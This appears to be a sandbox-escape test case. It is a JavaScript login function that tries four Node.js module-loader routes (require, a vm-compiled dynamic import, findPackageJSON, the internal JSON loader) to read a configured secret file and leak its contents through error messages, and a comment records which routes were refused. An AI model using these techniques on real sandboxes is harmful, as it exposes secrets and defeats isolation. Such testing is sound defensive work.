// attack: let the module loader read a secret, whose text then stands in the syntax error
// needs: fs
// came_to: {"module":"refused","import":"refused","source":"any","json":"refused"}
function login(email, password, callback) {
  const Module = process.getBuiltinModule('module');
  const file = configuration.secret_file;
  const require = Module.createRequire('/');
  const { compileFunction, constants } = process.getBuiltinModule('vm');
  const options = { importModuleDynamically: constants.USE_MAIN_CONTEXT_DEFAULT_LOADER };
  const dynamicImport = compileFunction('return import(file)', ['file'], options);
  report(callback, {
    module: () => require(file),
    import: () => dynamicImport(file),
    source: () => Module.findPackageJSON?.(file),
    json: () => Module._extensions['.json'](new Module(file), file),
  });
}
